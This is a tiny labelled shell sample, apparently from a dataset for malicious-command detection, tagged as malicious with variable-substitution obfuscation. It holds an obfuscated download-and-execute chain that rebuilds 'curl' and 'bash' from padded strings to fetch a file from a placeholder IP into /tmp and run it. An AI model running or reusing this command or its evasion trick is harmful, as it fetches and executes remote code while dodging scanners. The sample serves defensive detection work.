# label: malicious; obfuscated: substitution,variables; evasion: computed_name
c="cXuXrXl"
${c//X/} -s http://198.51.100.4/p -o /tmp/p
s="bXaXsXh"
${s//X/} /tmp/p
